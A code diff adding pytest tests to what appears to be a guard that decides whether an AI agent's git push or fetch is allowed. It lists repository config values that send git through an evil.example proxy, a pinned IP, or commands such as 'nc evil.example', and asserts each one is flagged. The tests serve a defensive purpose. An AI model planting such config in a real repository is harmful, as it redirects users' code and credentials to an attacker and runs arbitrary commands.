@@ -7,6 +7,7 @@ and wrote). Each attack is shown with real git: where the push or clone really l
 
 from __future__ import annotations
 
+import socket
 import subprocess
 from pathlib import Path
 
@@ -153,3 +154,69 @@ def test_git_really_clones_the_url_given(work: Path, tmp_path: Path) -> None:
 def test_a_value_git_output_cannot_carry_is_unknown(work: Path, value: str) -> None:
     for tool in ("git_push", "git_fetch"):
         assert resolve_git_remote(value, {"path": str(work)}, tool=tool) == ("",)
+
+
+REDIRECTS = [
+    ("http.proxy", "http://evil.example:3128"),
+    ("http.https://github.com/.proxy", "http://evil.example:3128"),
+    ("remote.origin.proxy", "http://evil.example:3128"),
+    ("http.curloptResolve", "github.com:443:203.0.113.9"),
+    ("core.sshCommand", "ssh -o ProxyCommand='nc evil.example 22'"),
+    ("core.gitProxy", "sh -c 'nc evil.example 9418'"),
+    ("remote.origin.vcs", "ext"),
+]
+
+
+@pytest.mark.parametrize(("key", "value"), REDIRECTS)
+def test_config_that_sends_the_connection_elsewhere_is_unknown(
+    work: Path, key: str, value: str
+) -> None:
+    """The URL is on an allowed host, but the repository's config has git connect through
+    a proxy, to a pinned address, or through a program of its own: the call escalates."""
+    _git(work, "remote", "add", "origin", GOOD)
+    for tool in ("git_push", "git_fetch"):
+        assert _decide(work, tool, "origin") == ("allow", "allow-all")  # control
+    _git(work, "config", key, value)
+    for tool in ("git_push", "git_fetch"):
+        for remote in ("origin", GOOD):
+            assert _decide(work, tool, remote) == UNTRUSTED
+
+
+def test_the_users_own_proxy_is_not_the_repositorys(
+    work: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Control: a proxy in the user's own config is the user's choice, not the agent's."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".gitconfig").write_text('[http]\n\tproxy = "http://proxy.corp:3128"\n')
+    monkeypatch.setenv("HOME", str(home))
+    assert _git(work, "config", "http.proxy").strip() == "http://proxy.corp:3128"
+    assert _decide(work, "git_push", GOOD) == ("allow", "allow-all")
+
+
+def test_git_really_connects_where_the_config_sends_it(work: Path, tmp_path: Path) -> None:
+    """What the tests above stand on: a push to ``github.com`` reaches a listener the
+    repository's ``http.proxy`` names, and ``core.sshCommand`` runs the program it names."""
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(1)
+        listener.settimeout(30)
+        port = listener.getsockname()[1]
+        _git(work, "config", "http.proxy", f"http://127.0.0.1:{port}")
+        push = subprocess.Popen(
+            ["git", "-C", str(work), "push", "http://github.com/me/p.git", "HEAD"],
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
+        conn, _ = listener.accept()
+        with conn:
+            assert b"github.com/me/p.git" in conn.recv(200)
+        push.wait(timeout=30)
+    marker = tmp_path / "ran"
+    _git(work, "config", "core.sshCommand", f"sh -c 'touch {marker}' --")
+    subprocess.run(
+        ["git", "-C", str(work), "push", "git@github.com:me/p.git", "HEAD"],
+        check=False,
+        capture_output=True,
+    )
+    assert marker.exists()
